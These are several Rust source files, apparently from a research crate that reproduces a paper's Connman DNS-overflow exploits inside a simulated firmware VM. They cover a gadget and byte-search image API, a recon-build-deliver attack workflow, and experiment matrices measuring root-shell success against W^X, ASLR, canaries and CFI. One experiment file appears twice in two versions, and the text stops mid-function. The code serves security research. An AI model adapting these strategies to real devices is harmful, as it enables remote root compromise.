    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn properties() {
        assert_eq!(Arch::X86.pointer_width(), 4);
        assert_eq!(Arch::Armv7.pointer_width(), 4);
        assert_eq!(Arch::X86.insn_align(), 1);
        assert_eq!(Arch::Armv7.insn_align(), 4);
        assert_eq!(Arch::Riscv.insn_align(), 2);
        assert_eq!(Arch::X86.nop_bytes(), &[0x90]);
        assert_eq!(Arch::Armv7.nop_bytes().len(), 4);
        assert_eq!(Arch::Riscv.nop_bytes(), &[0x01, 0x00]);
    }

    #[test]
    fn display() {
        assert_eq!(Arch::X86.to_string(), "x86");
        assert_eq!(Arch::Armv7.to_string(), "ARMv7");
        assert_eq!(Arch::Riscv.to_string(), "RISC-V");
    }
}
