//! The assembled image and its query API.

use std::collections::HashMap;
use std::error::Error;
use std::fmt;
use std::sync::OnceLock;

use crate::{Addr, Arch, Section, SectionKind, Symbol};

/// Errors from image construction or queries.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum ImageError {
    /// Two sections overlap in the address space.
    Overlap {
        /// First of the two overlapping kinds.
        a: SectionKind,
        /// Second of the two overlapping kinds.
        b: SectionKind,
    },
    /// Two symbols share a name.
    DuplicateSymbol(String),
    /// A symbol's address is not covered by any section.
    DanglingSymbol(String),
    /// A required symbol is missing.
    MissingSymbol(String),
}

impl fmt::Display for ImageError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ImageError::Overlap { a, b } => write!(f, "sections {a} and {b} overlap"),
            ImageError::DuplicateSymbol(n) => write!(f, "duplicate symbol {n}"),
            ImageError::DanglingSymbol(n) => write!(f, "symbol {n} outside all sections"),
            ImageError::MissingSymbol(n) => write!(f, "missing symbol {n}"),
        }
    }
}

impl Error for ImageError {}

/// A complete binary image: architecture, sections and symbols.
///
/// `Image` is immutable once built (see [`crate::ImageBuilder`]); the VM's
/// loader copies its contents into permissioned memory, applying the
/// protection policy and ASLR slides.
#[derive(Debug, Clone)]
pub struct Image {
    arch: Arch,
    sections: Vec<Section>,
    symbols: Vec<Symbol>,
    by_name: HashMap<String, usize>,
    /// Lazily-built byte-occurrence index backing [`Image::find_bytes`]
    /// (safe to memoise: the image is immutable once built).
    byte_index: OnceLock<ByteIndex>,
}

/// Counting-sort layout of every byte in the readable sections:
/// `posns[starts[b]..starts[b + 1]]` lists the `(section, offset)` of
/// each occurrence of byte value `b`, in section-insertion order — the
/// exact order a linear sweep would visit them.
#[derive(Debug, Clone, Default)]
struct ByteIndex {
    starts: Vec<u32>,
    posns: Vec<(u32, u32)>,
}

impl ByteIndex {
    fn build(sections: &[Section]) -> ByteIndex {
        let mut counts = [0u32; 256];
        for s in sections.iter().filter(|s| s.perms().readable()) {
            for &b in s.bytes() {
                counts[b as usize] += 1;
            }
        }
        let mut starts = vec![0u32; 257];
        for (i, &c) in counts.iter().enumerate() {
            starts[i + 1] = starts[i] + c;
        }
        let mut cursor: Vec<u32> = starts[..256].to_vec();
        let mut posns = vec![(0u32, 0u32); starts[256] as usize];
        for (si, s) in sections.iter().enumerate() {
            if !s.perms().readable() {
                continue;
            }
            for (off, &b) in s.bytes().iter().enumerate() {
                let at = &mut cursor[b as usize];
                posns[*at as usize] = (si as u32, off as u32);
                *at += 1;
            }
        }
        ByteIndex { starts, posns }
    }
}

impl Image {
    pub(crate) fn from_parts(
        arch: Arch,
        sections: Vec<Section>,
        symbols: Vec<Symbol>,
    ) -> Result<Self, ImageError> {
        // Overlap check: sort by base, ensure disjoint.
        let mut sorted: Vec<&Section> = sections.iter().collect();
        sorted.sort_by_key(|s| s.base());
        for w in sorted.windows(2) {
            if w[0].end() > w[1].base() as u64 {
                return Err(ImageError::Overlap {
                    a: w[0].kind(),
                    b: w[1].kind(),
                });
            }
        }
        let mut by_name = HashMap::with_capacity(symbols.len());
        for (i, sym) in symbols.iter().enumerate() {
            if by_name.insert(sym.name().to_string(), i).is_some() {
                return Err(ImageError::DuplicateSymbol(sym.name().to_string()));
            }
            if !sections.iter().any(|s| s.contains(sym.addr())) {
                return Err(ImageError::DanglingSymbol(sym.name().to_string()));
            }
        }
        Ok(Image {
            arch,
            sections,
            symbols,
            by_name,
            byte_index: OnceLock::new(),
        })
    }

    /// Target architecture.
    pub fn arch(&self) -> Arch {
        self.arch
    }

    /// All sections, in insertion order.
    pub fn sections(&self) -> &[Section] {
        &self.sections
    }

    /// All symbols, in insertion order.
    pub fn symbols(&self) -> &[Symbol] {
        &self.symbols
    }

    /// Looks up a symbol by exact name.
    pub fn symbol(&self, name: &str) -> Option<&Symbol> {
        self.by_name.get(name).map(|&i| &self.symbols[i])
    }

    /// Looks up a symbol, converting absence into an error (for loaders
    /// that require certain symbols).
    ///
    /// # Errors
    ///
    /// Returns [`ImageError::MissingSymbol`] when absent.
    pub fn require_symbol(&self, name: &str) -> Result<&Symbol, ImageError> {
        self.symbol(name)
            .ok_or_else(|| ImageError::MissingSymbol(name.to_string()))
    }

    /// The section of the given kind, if present.
    pub fn section(&self, kind: SectionKind) -> Option<&Section> {
        self.sections.iter().find(|s| s.kind() == kind)
    }

    /// The section containing `addr`, if any.
    pub fn section_containing(&self, addr: Addr) -> Option<&Section> {
        self.sections.iter().find(|s| s.contains(addr))
    }

    /// Reads initialized bytes spanning `addr..addr+len` from whichever
    /// section holds them.
    pub fn bytes_at(&self, addr: Addr, len: usize) -> Option<&[u8]> {
        self.section_containing(addr)?.initialized_at(addr, len)
    }

    /// Finds every occurrence of `needle` in the initialized bytes of
    /// readable sections, returning absolute addresses — the equivalent of
    /// `ROPgadget --memstr`, which the paper uses to find single
    /// characters of `/bin/sh` in Connman's memory.
    pub fn find_bytes(&self, needle: &[u8]) -> Vec<Addr> {
        let Some(&first) = needle.first() else {
            return Vec::new();
        };
        // The index enumerates candidate positions of the first needle
        // byte directly; only those get the (rare) full comparison.
        let idx = self
            .byte_index
            .get_or_init(|| ByteIndex::build(&self.sections));
        let range = idx.starts[first as usize] as usize..idx.starts[first as usize + 1] as usize;
        let mut hits = Vec::new();
        for &(si, off) in &idx.posns[range] {
            let s = &self.sections[si as usize];
            let bytes = s.bytes();
            let off = off as usize;
            if off + needle.len() <= bytes.len() && &bytes[off..off + needle.len()] == needle {
                hits.push(s.base() + off as Addr);
            }
        }
        hits
    }

    /// Like [`Image::find_bytes`] but returns the first hit.
    pub fn find_first(&self, needle: &[u8]) -> Option<Addr> {
        self.find_bytes(needle).into_iter().next()
    }
}

impl fmt::Display for Image {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(
            f,
            "image for {} ({} sections, {} symbols)",
            self.arch,
            self.sections.len(),
            self.symbols.len()
        )?;
        for s in &self.sections {
            writeln!(f, "  {s}")?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Perms, SymbolKind};

    fn img() -> Image {
        Image::from_parts(
            Arch::X86,
            vec![
                Section::new(
                    SectionKind::Text,
                    0x1000,
                    0x100,
                    Perms::RX,
                    b"AB/bin".to_vec(),
                ),
                Section::new(SectionKind::Bss, 0x3000, 0x100, Perms::RW, vec![]),
            ],
            vec![Symbol::new("main", 0x1000, 4, SymbolKind::Function)],
        )
        .unwrap()
    }

    #[test]
    fn queries() {
        let im = img();
        assert_eq!(im.symbol("main").unwrap().addr(), 0x1000);
        assert!(im.symbol("nope").is_none());
        assert!(matches!(
            im.require_symbol("nope"),
            Err(ImageError::MissingSymbol(_))
        ));
        assert_eq!(im.section(SectionKind::Bss).unwrap().base(), 0x3000);
        assert_eq!(
            im.section_containing(0x1005).unwrap().kind(),
            SectionKind::Text
        );
        assert_eq!(im.bytes_at(0x1002, 4), Some(&b"/bin"[..]));
    }

    #[test]
    fn memstr_equivalent() {
        let im = img();
        assert_eq!(im.find_bytes(b"/"), vec![0x1002]);
        assert_eq!(im.find_first(b"bin"), Some(0x1003));
        assert!(im.find_bytes(b"zz").is_empty());
        assert!(im.find_bytes(b"").is_empty());
    }

    #[test]
    fn overlap_rejected() {
        let err = Image::from_parts(
            Arch::X86,
            vec![
                Section::new(SectionKind::Text, 0x1000, 0x100, Perms::RX, vec![]),
                Section::new(SectionKind::Data, 0x10FF, 0x10, Perms::RW, vec![]),
            ],
            vec![],
        )
        .unwrap_err();
        assert!(matches!(err, ImageError::Overlap { .. }));
    }

    #[test]
    fn dangling_symbol_rejected() {
        let err = Image::from_parts(
            Arch::X86,
            vec![Section::new(
                SectionKind::Text,
                0x1000,
                0x10,
                Perms::RX,
                vec![],
            )],
            vec![Symbol::new("ghost", 0x9999, 0, SymbolKind::Object)],
        )
        .unwrap_err();
        assert_eq!(err, ImageError::DanglingSymbol("ghost".into()));
    }

    #[test]
    fn duplicate_symbol_rejected() {
        let err = Image::from_parts(
            Arch::X86,
            vec![Section::new(
                SectionKind::Text,
                0x1000,
                0x10,
                Perms::RX,
                vec![],
            )],
            vec![
                Symbol::new("f", 0x1000, 0, SymbolKind::Function),
                Symbol::new("f", 0x1004, 0, SymbolKind::Function),
            ],
        )
        .unwrap_err();
        assert_eq!(err, ImageError::DuplicateSymbol("f".into()));
    }
}
