//! The controlled-environment attack workflow (§III).

use std::error::Error;
use std::fmt;

use cml_connman::ProxyOutcome;
use cml_exploit::strategies::Goal;
use cml_exploit::target::deliver_labels;
use cml_exploit::{BuildError, ExploitStrategy, LayoutError, ReconError, TargetInfo};
use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};

/// Seed used for the attacker's reference boots (their own copy of the
/// firmware, studied "under gdb").
const RECON_SEED: u64 = 0xA11C;

/// Seed used for the victim device. Deliberately different from
/// [`RECON_SEED`]: under ASLR the victim's layout is unknown to the
/// attacker, exactly as in the field. Matrix experiments derive a
/// per-cell victim seed from this base via [`crate::runner::derive_seed`].
pub(crate) const VICTIM_SEED: u64 = 0xD00D;

/// Errors from the lab workflow.
#[derive(Debug, Clone, PartialEq)]
pub enum LabError {
    /// Reconnaissance failed (e.g. patched firmware does not crash).
    Recon(ReconError),
    /// Payload construction failed.
    Build(BuildError),
    /// The payload could not be encoded as DNS labels.
    Layout(LayoutError),
    /// The victim would not issue a query.
    NoQuery,
}

impl fmt::Display for LabError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            LabError::Recon(e) => write!(f, "recon: {e}"),
            LabError::Build(e) => write!(f, "build: {e}"),
            LabError::Layout(e) => write!(f, "layout: {e}"),
            LabError::NoQuery => write!(f, "victim issued no query"),
        }
    }
}

impl Error for LabError {}

/// Condensed attack verdict.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackOutcome {
    /// Root shell spawned — full compromise.
    RootShell,
    /// Daemon killed without code execution.
    DenialOfService,
    /// Daemon survived the delivery.
    Survived,
}

impl fmt::Display for AttackOutcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            AttackOutcome::RootShell => "root shell",
            AttackOutcome::DenialOfService => "DoS (crash)",
            AttackOutcome::Survived => "survived",
        };
        f.write_str(s)
    }
}

/// Everything observed from one attack run.
#[derive(Debug, Clone)]
pub struct AttackReport {
    /// Strategy name.
    pub strategy: &'static str,
    /// Paper section reproduced.
    pub paper_section: &'static str,
    /// Protection configuration attacked.
    pub protections: Protections,
    /// The strategy's own prediction for this configuration.
    pub predicted_success: bool,
    /// Condensed verdict.
    pub outcome: AttackOutcome,
    /// Full proxy outcome (fault report / shell details).
    pub proxy_outcome: ProxyOutcome,
    /// Annotated chain listing (the paper's Listings 2–5 equivalent).
    pub listing: String,
}

impl AttackReport {
    /// Whether reality matched the strategy's prediction.
    pub fn matched_prediction(&self) -> bool {
        self.predicted_success == (self.outcome == AttackOutcome::RootShell)
    }
}

/// A controlled experiment cell: one firmware, one architecture, one
/// protection policy.
#[derive(Debug, Clone)]
pub struct Lab {
    firmware: Firmware,
    protections: Protections,
    victim_seed: u64,
    sanitize: bool,
}

impl Lab {
    /// Builds the lab for a firmware/architecture pair (no protections
    /// by default).
    pub fn new(kind: FirmwareKind, arch: Arch) -> Self {
        Lab {
            firmware: Firmware::build(kind, arch),
            protections: Protections::none(),
            victim_seed: VICTIM_SEED,
            sanitize: false,
        }
    }

    /// Uses an already-built firmware.
    pub fn with_firmware(firmware: Firmware) -> Self {
        Lab {
            firmware,
            protections: Protections::none(),
            victim_seed: VICTIM_SEED,
            sanitize: false,
        }
    }

    /// Sets the protection policy for both the reference boots and the
    /// victim.
    pub fn with_protections(mut self, protections: Protections) -> Self {
        self.protections = protections;
        self
    }

    /// Sets the victim's boot seed (its ASLR layout).
    pub fn with_victim_seed(mut self, seed: u64) -> Self {
        self.victim_seed = seed;
        self
    }

    /// Runs the *victim* under the shadow-memory sanitizer: buffer
    /// overflows during parsing abort with a precise diagnostic instead
    /// of corrupting the frame. Recon replicas are unaffected (the
    /// attacker's own copy obviously doesn't run the defender's tooling).
    pub fn with_sanitizer(mut self, on: bool) -> Self {
        self.sanitize = on;
        self
    }

    /// The firmware under test.
    pub fn firmware(&self) -> &Firmware {
        &self.firmware
    }

    /// The active protection policy.
    pub fn protections(&self) -> Protections {
        self.protections
    }

    /// Reconnoitres the attacker's local replica.
    ///
    /// The replica runs with the victim's memory-layout protections but
    /// *without* canary/CFI: on their own copy the attacker controls the
    /// build (and a debugger can read the canary anyway). The victim's
    /// per-boot canary value and shadow stack remain unknown, which is
    /// why those mitigations still block the final attack.
    ///
    /// # Errors
    ///
    /// Returns [`LabError::Recon`] when the firmware does not behave
    /// like a vulnerable Connman.
    pub fn recon(&self) -> Result<TargetInfo, LabError> {
        let fw = self.firmware.clone();
        let mut protections = self.protections;
        protections.stack_canary = false;
        protections.cfi = false;
        TargetInfo::gather(self.firmware.image(), move || {
            fw.boot(protections, RECON_SEED)
        })
        .map_err(LabError::Recon)
    }

    /// Boots a fresh victim daemon.
    pub fn boot_victim(&self) -> cml_firmware::Daemon {
        self.firmware
            .boot(self.protections, self.victim_seed)
            .with_sanitizer(self.sanitize)
    }

    /// Delivers pre-solved payload labels to a freshly booted victim
    /// and classifies what happened — the delivery tail of
    /// [`run_exploit`](Self::run_exploit), shared with callers that
    /// produce labels some other way (e.g. relocating a
    /// [`cml_exploit::PayloadTemplate`]).
    ///
    /// # Errors
    ///
    /// Returns [`LabError::NoQuery`] when the victim never issues a
    /// DNS query to attack.
    pub fn attack_with_labels(
        &self,
        labels: Vec<Vec<u8>>,
    ) -> Result<(AttackOutcome, ProxyOutcome), LabError> {
        let mut victim = self.boot_victim();
        let proxy_outcome = deliver_labels(&mut victim, labels).ok_or(LabError::NoQuery)?;
        let outcome = if proxy_outcome.is_root_shell() {
            AttackOutcome::RootShell
        } else if proxy_outcome.daemon_alive() {
            AttackOutcome::Survived
        } else {
            AttackOutcome::DenialOfService
        };
        Ok((outcome, proxy_outcome))
    }

    /// Full run: recon → build → deliver → classify.
    ///
    /// # Errors
    ///
    /// Returns a [`LabError`] if any pre-delivery stage fails; delivery
    /// itself always yields a report.
    pub fn run_exploit(&self, strategy: &dyn ExploitStrategy) -> Result<AttackReport, LabError> {
        let target = self.recon()?;
        let payload = strategy.build(&target).map_err(LabError::Build)?;
        let labels = payload.to_labels().map_err(LabError::Layout)?;
        let (outcome, proxy_outcome) = self.attack_with_labels(labels)?;
        let predicted_success = match strategy.goal() {
            Goal::RootShell => strategy.expected_to_defeat(&self.protections),
            Goal::DenialOfService => true,
        };
        Ok(AttackReport {
            strategy: strategy.name(),
            paper_section: strategy.paper_section(),
            protections: self.protections,
            predicted_success,
            outcome,
            proxy_outcome,
            listing: payload.listing(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cml_exploit::{CodeInjection, Ret2Libc, RopMemcpyChain};

    #[test]
    fn full_pipeline_x86_rop_under_full_protections() {
        let lab = Lab::new(FirmwareKind::OpenElec, Arch::X86).with_protections(Protections::full());
        let report = lab.run_exploit(&RopMemcpyChain::new(Arch::X86)).unwrap();
        assert_eq!(report.outcome, AttackOutcome::RootShell);
        assert!(report.matched_prediction());
        assert!(report.listing.contains("execlp@plt"));
    }

    #[test]
    fn code_injection_blocked_by_wxorx_matches_prediction() {
        let lab =
            Lab::new(FirmwareKind::OpenElec, Arch::Armv7).with_protections(Protections::wxorx());
        let report = lab.run_exploit(&CodeInjection::new(Arch::Armv7)).unwrap();
        assert_eq!(report.outcome, AttackOutcome::DenialOfService);
        assert!(report.matched_prediction(), "strategy predicted failure");
    }

    #[test]
    fn patched_firmware_fails_at_recon() {
        let lab = Lab::new(FirmwareKind::Patched, Arch::X86);
        assert!(matches!(
            lab.run_exploit(&Ret2Libc::new()),
            Err(LabError::Recon(_))
        ));
    }
}
