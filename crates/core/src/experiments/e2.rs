//! E2 — the six proof-of-concept exploits (§III-A, §III-B, §III-C).
//!
//! The full matrix: {none, W⊕X, W⊕X+ASLR} × {x86, ARMv7}, each attacked
//! with every strategy for that architecture. The paper's headline
//! result is the diagonal: each protection level falls to the technique
//! introduced for it, while weaker techniques break exactly where
//! expected.

use cml_exploit::strategies_for;
use cml_firmware::{Arch, FirmwareKind, Protections};

use crate::lab::Lab;
use crate::report::Table;
use crate::runner::{derive_seed, Runner};

/// Runs the experiment serially.
pub fn run() -> Table {
    run_jobs(1)
}

/// Runs the experiment on `jobs` workers. Per-cell victim seeds are
/// derived from the cell's matrix position, and rows are merged in
/// matrix order, so the table is byte-identical at any `jobs` value.
pub fn run_jobs(jobs: usize) -> Table {
    let mut t = Table::new(
        "E2",
        "the six PoCs grown to nine: protections × architectures × techniques",
        &[
            "paper §",
            "arch",
            "protections",
            "technique",
            "predicted",
            "observed",
            "match",
        ],
    );
    let mut cells = Vec::new();
    for arch in Arch::ALL {
        for protections in [
            Protections::none(),
            Protections::wxorx(),
            Protections::full(),
        ] {
            for strat_idx in 0..strategies_for(arch).len() {
                cells.push((arch, protections, strat_idx));
            }
        }
    }
    let rows = Runner::new(jobs).run(cells, |cell_id, (arch, protections, strat_idx)| {
        let strategy = &strategies_for(arch)[strat_idx];
        let lab = Lab::new(FirmwareKind::OpenElec, arch)
            .with_protections(protections)
            .with_victim_seed(derive_seed(crate::lab::VICTIM_SEED, cell_id as u64));
        match lab.run_exploit(strategy.as_ref()) {
            Ok(report) => {
                let row = vec![
                    report.paper_section.to_string(),
                    arch.to_string(),
                    protections.label(),
                    report.strategy.to_string(),
                    if report.predicted_success {
                        "shell"
                    } else {
                        "no shell"
                    }
                    .to_string(),
                    report.outcome.to_string(),
                    if report.matched_prediction() {
                        "yes"
                    } else {
                        "NO"
                    }
                    .to_string(),
                ];
                (row, !report.matched_prediction())
            }
            Err(e) => (
                vec![
                    strategy.paper_section().to_string(),
                    arch.to_string(),
                    protections.label(),
                    strategy.name().to_string(),
                    "-".into(),
                    format!("error: {e}"),
                    "n/a".into(),
                ],
                false,
            ),
        }
    });
    let mut mismatches = 0;
    for (row, mismatched) in rows {
        if mismatched {
            mismatches += 1;
        }
        t.row(row);
    }
    t.note(format!(
        "Prediction mismatches: {mismatches}. The paper's six PoCs are the \
         (none, code-injection), (W^X, ret2libc / gadget-execlp) and \
         (W^X+ASLR, ROP memcpy-chain) cells, extended here with the RISC-V \
         column — all nine diagonal cells spawn a root shell, and every weaker \
         technique fails against the protection introduced above it, \
         reproducing (and extending) the paper's qualitative result exactly."
    ));
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parallel_run_is_byte_identical_to_serial() {
        assert_eq!(run_jobs(1).to_markdown(), run_jobs(4).to_markdown());
    }

    #[test]
    fn all_cells_match_predictions_and_diagonal_succeeds() {
        let t = run();
        // 3 arches × 3 protections × 3 strategies = 27 cells.
        assert_eq!(t.rows.len(), 27);
        for row in &t.rows {
            assert_eq!(row[6], "yes", "prediction mismatch in {row:?}");
        }
        // The paper's nine headline cells all yield shells.
        let diagonal = [
            ("III-A1", "none"),
            ("III-A2", "none"),
            ("III-A3", "none"),
            ("III-B1", "W^X"),
            ("III-B2", "W^X"),
            ("III-B3", "W^X"),
            ("III-C1", "W^X+ASLR"),
            ("III-C2", "W^X+ASLR"),
            ("III-C3", "W^X+ASLR"),
        ];
        for (section, prot) in diagonal {
            let row = t
                .rows
                .iter()
                .find(|r| r[0] == section && r[2] == prot)
                .unwrap_or_else(|| panic!("{section}/{prot} missing"));
            assert_eq!(row[5], "root shell", "{row:?}");
        }
    }
}
