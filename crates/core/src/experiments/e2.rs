//! E2 — the six proof-of-concept exploits (§III-A, §III-B, §III-C).
//!
//! The full matrix: {none, W⊕X, W⊕X+ASLR} × {x86, ARMv7}, each attacked
//! with every strategy for that architecture. The paper's headline
//! result is the diagonal: each protection level falls to the technique
//! introduced for it, while weaker techniques break exactly where
//! expected.

use cml_exploit::strategies_for;
use cml_firmware::{Arch, FirmwareKind, Protections};

use crate::lab::Lab;
use crate::report::Table;

/// Runs the experiment.
pub fn run() -> Table {
    let mut t = Table::new(
        "E2",
        "the six PoCs: protections × architectures × techniques",
        &["paper §", "arch", "protections", "technique", "predicted", "observed", "match"],
    );
    let mut mismatches = 0;
    for arch in Arch::ALL {
        for protections in [Protections::none(), Protections::wxorx(), Protections::full()] {
            let lab = Lab::new(FirmwareKind::OpenElec, arch).with_protections(protections);
            for strategy in strategies_for(arch) {
                let report = match lab.run_exploit(strategy.as_ref()) {
                    Ok(r) => r,
                    Err(e) => {
                        t.row([
                            strategy.paper_section().to_string(),
                            arch.to_string(),
                            protections.label(),
                            strategy.name().to_string(),
                            "-".into(),
                            format!("error: {e}"),
                            "n/a".into(),
                        ]);
                        continue;
                    }
                };
                if !report.matched_prediction() {
                    mismatches += 1;
                }
                t.row([
                    report.paper_section.to_string(),
                    arch.to_string(),
                    protections.label(),
                    report.strategy.to_string(),
                    if report.predicted_success { "shell" } else { "no shell" }.to_string(),
                    report.outcome.to_string(),
                    if report.matched_prediction() { "yes" } else { "NO" }.to_string(),
                ]);
            }
        }
    }
    t.note(format!(
        "Prediction mismatches: {mismatches}. The paper's six PoCs are the \
         (none, code-injection), (W^X, ret2libc / gadget-execlp) and \
         (W^X+ASLR, ROP memcpy-chain) cells — all six spawn a root shell here, \
         and every weaker technique fails against the protection introduced \
         above it, reproducing the paper's qualitative result exactly."
    ));
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_cells_match_predictions_and_diagonal_succeeds() {
        let t = run();
        // 2 arches × 3 protections × 3 strategies = 18 cells.
        assert_eq!(t.rows.len(), 18);
        for row in &t.rows {
            assert_eq!(row[6], "yes", "prediction mismatch in {row:?}");
        }
        // The paper's six headline cells all yield shells.
        let diagonal = [
            ("III-A1", "none"),
            ("III-A2", "none"),
            ("III-B1", "W^X"),
            ("III-B2", "W^X"),
            ("III-C1", "W^X+ASLR"),
            ("III-C2", "W^X+ASLR"),
        ];
        for (section, prot) in diagonal {
            let row = t
                .rows
                .iter()
                .find(|r| r[0] == section && r[2] == prot)
                .unwrap_or_else(|| panic!("{section}/{prot} missing"));
            assert_eq!(row[5], "root shell", "{row:?}");
        }
    }
}
