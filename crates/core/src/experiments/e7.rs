//! E7 — adapting the exploit to other builds (paper §V, extension).
//!
//! §V claims the code works "out-of-the-box (with minimal modification)"
//! against other DNS-based overflows, because the only build-specific
//! inputs are addresses that reconnaissance re-discovers. We test the
//! claim's mechanism: attack several *different builds* of the firmware
//! (shuffled code layout → different gadget addresses and offsets) with
//! the unchanged strategy code, re-running only reconnaissance.

use cml_exploit::target::deliver_labels;
use cml_exploit::{ExploitStrategy, RopMemcpyChain, TargetInfo};
use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};

use crate::report::Table;
use crate::runner::{derive_seed, Runner};

/// Runs the experiment serially.
pub fn run() -> Table {
    run_jobs(1)
}

/// Runs the experiment on `jobs` workers; byte-identical output at any
/// width (derived per-cell victim seeds, ordered merge).
pub fn run_jobs(jobs: usize) -> Table {
    let mut t = Table::new(
        "E7",
        "adaptation across builds (paper §V): recon-only retargeting",
        &[
            "arch",
            "build variant",
            "pop-gadget addr",
            "ret offset",
            "outcome",
        ],
    );
    let runner = Runner::new(jobs);
    let mut part_one = Vec::new();
    for arch in Arch::ALL {
        for variant in [0u64, 1, 2, 3] {
            part_one.push((arch, variant));
        }
    }
    let builds = runner.run(part_one, |cell_id, (arch, variant)| {
        let fw = Firmware::build_variant(FirmwareKind::OpenElec, arch, variant);
        let fw2 = fw.clone();
        let info =
            match TargetInfo::gather(fw.image(), move || fw2.boot(Protections::full(), 0xA11C)) {
                Ok(i) => i,
                Err(e) => {
                    let row = vec![
                        arch.to_string(),
                        variant.to_string(),
                        "-".into(),
                        "-".into(),
                        format!("recon error: {e}"),
                    ];
                    return (row, None);
                }
            };
        let gadget = match arch {
            Arch::X86 => info.gadgets.x86_pop_chain(4).map(|g| g.addr),
            Arch::Armv7 => info
                .gadgets
                .arm_pop_including(&[0, 1, 2, 3, 5, 6, 7])
                .map(|g| g.addr),
            Arch::Riscv => info
                .gadgets
                .riscv_load_including(&[10, 11, 12, 13])
                .map(|g| g.addr),
        };
        let outcome = match RopMemcpyChain::new(arch)
            .build(&info)
            .map_err(|e| e.to_string())
            .and_then(|p| p.to_labels().map_err(|e| e.to_string()))
        {
            Ok(labels) => {
                let seed = derive_seed(crate::lab::VICTIM_SEED, cell_id as u64);
                let mut victim = fw.boot(Protections::full(), seed);
                match deliver_labels(&mut victim, labels) {
                    Some(o) if o.is_root_shell() => "root shell".to_string(),
                    Some(o) => o.to_string(),
                    None => "no query".to_string(),
                }
            }
            Err(e) => format!("build error: {e}"),
        };
        let row = vec![
            arch.to_string(),
            variant.to_string(),
            gadget.map_or("-".into(), |a| format!("{a:#010x}")),
            info.frame.ret_offset.to_string(),
            outcome,
        ];
        (row, gadget)
    });
    for (ai, arch) in Arch::ALL.into_iter().enumerate() {
        let mut gadget_addrs = Vec::new();
        for (row, gadget) in &builds[ai * 4..(ai + 1) * 4] {
            t.row(row.clone());
            gadget_addrs.push(*gadget);
        }
        let distinct: std::collections::HashSet<_> = gadget_addrs.iter().flatten().collect();
        t.note(format!(
            "{arch}: {} distinct pop-gadget addresses across 4 builds — the \
             strategy code never changed, only reconnaissance re-ran.",
            distinct.len()
        ));
    }
    // Part two: retarget other *services* (the paper's §V CVE list,
    // modelled as different stack-buffer sizes) — again with zero
    // strategy changes.
    let mut part_two = Vec::new();
    for arch in Arch::ALL {
        for service in [
            cml_firmware::ServiceProfile::DNSMASQ_LIKE,
            cml_firmware::ServiceProfile::RESOLVED_LIKE,
            cml_firmware::ServiceProfile::ASTERISK_LIKE,
        ] {
            part_two.push((arch, service));
        }
    }
    let service_rows = runner.run(part_two, |cell_id, (arch, service)| {
        let fw = Firmware::build(FirmwareKind::OpenElec, arch);
        let fw2 = fw.clone();
        let outcome = TargetInfo::gather(fw.image(), move || {
            fw2.boot_service(Protections::full(), 0xA11C, service)
        })
        .map_err(|e| e.to_string())
        .and_then(|info| {
            let labels = RopMemcpyChain::new(arch)
                .build(&info)
                .map_err(|e| e.to_string())?
                .to_labels()
                .map_err(|e| e.to_string())?;
            // Offset part-two cell ids past part one so no two cells of
            // the experiment share a victim seed.
            let seed = derive_seed(crate::lab::VICTIM_SEED, 1000 + cell_id as u64);
            let mut victim = fw.boot_service(Protections::full(), seed, service);
            match deliver_labels(&mut victim, labels) {
                Some(o) if o.is_root_shell() => {
                    Ok((info.frame.ret_offset, "root shell".to_string()))
                }
                Some(o) => Ok((info.frame.ret_offset, o.to_string())),
                None => Err("no query".to_string()),
            }
        });
        match outcome {
            Ok((ret_offset, verdict)) => vec![
                arch.to_string(),
                service.name.to_string(),
                format!("({})", service.cve),
                ret_offset.to_string(),
                verdict.to_string(),
            ],
            Err(e) => vec![
                arch.to_string(),
                service.name.to_string(),
                format!("({})", service.cve),
                "-".into(),
                format!("error: {e}"),
            ],
        }
    });
    for row in service_rows {
        t.row(row);
    }
    t.note(
        "Part two retargets the same unchanged ROP strategy at services \
         with 296-, 2048- and 128-byte buffers (stand-ins for the paper's \
         §V CVE list): reconnaissance re-learns each frame and every one \
         falls under W^X+ASLR.",
    );
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unchanged_strategy_works_across_builds_and_services() {
        let t = run();
        assert_eq!(t.rows.len(), 12 + 9);
        for row in &t.rows {
            assert_eq!(row[4], "root shell", "{row:?}");
        }
        // Builds genuinely differ: at least one note reports >1 address.
        assert!(
            t.notes.iter().any(|n| !n.contains("1 distinct")),
            "{:?}",
            t.notes
        );
    }
}
