//! The experiment suite: every table/figure of the paper plus the
//! DESIGN.md extension experiments, regenerated from the simulation.
//!
//! | id | reproduces | entry point |
//! |----|------------|-------------|
//! | E1 | §III DoS preamble | [`e1::run`] |
//! | E2 | the six PoCs of §III-A/B/C | [`e2::run`] |
//! | E3 | §III-D Wi-Fi Pineapple + Fig. 1 topology | [`e3::run`] |
//! | E4 | the firmware survey (Yocto/OpenELEC/Tizen) | [`e4::run`] |
//! | E5 | Listings 2–5 (generated chains) | [`e5::run`] |
//! | E6 | §IV mitigations (canary, CFI) | [`e6::run`] |
//! | E7 | §V adaptation to other builds | [`e7::run`] |
//! | E8 | ASLR brute-force curve (related work §VI) | [`e8::run`] |
//! | E9 | cohort fleet campaign (closing Mirai remark) | [`e9::run`] |
//! | E10 | upstream-resolver cache poisoning (XDRI) | [`e10::run`] |

pub mod e1;
pub mod e10;
pub mod e2;
pub mod e3;
pub mod e4;
pub mod e5;
pub mod e6;
pub mod e7;
pub mod e8;
pub mod e9;

use crate::report::Suite;

/// Runs every experiment, in order, serially.
pub fn run_all() -> Suite {
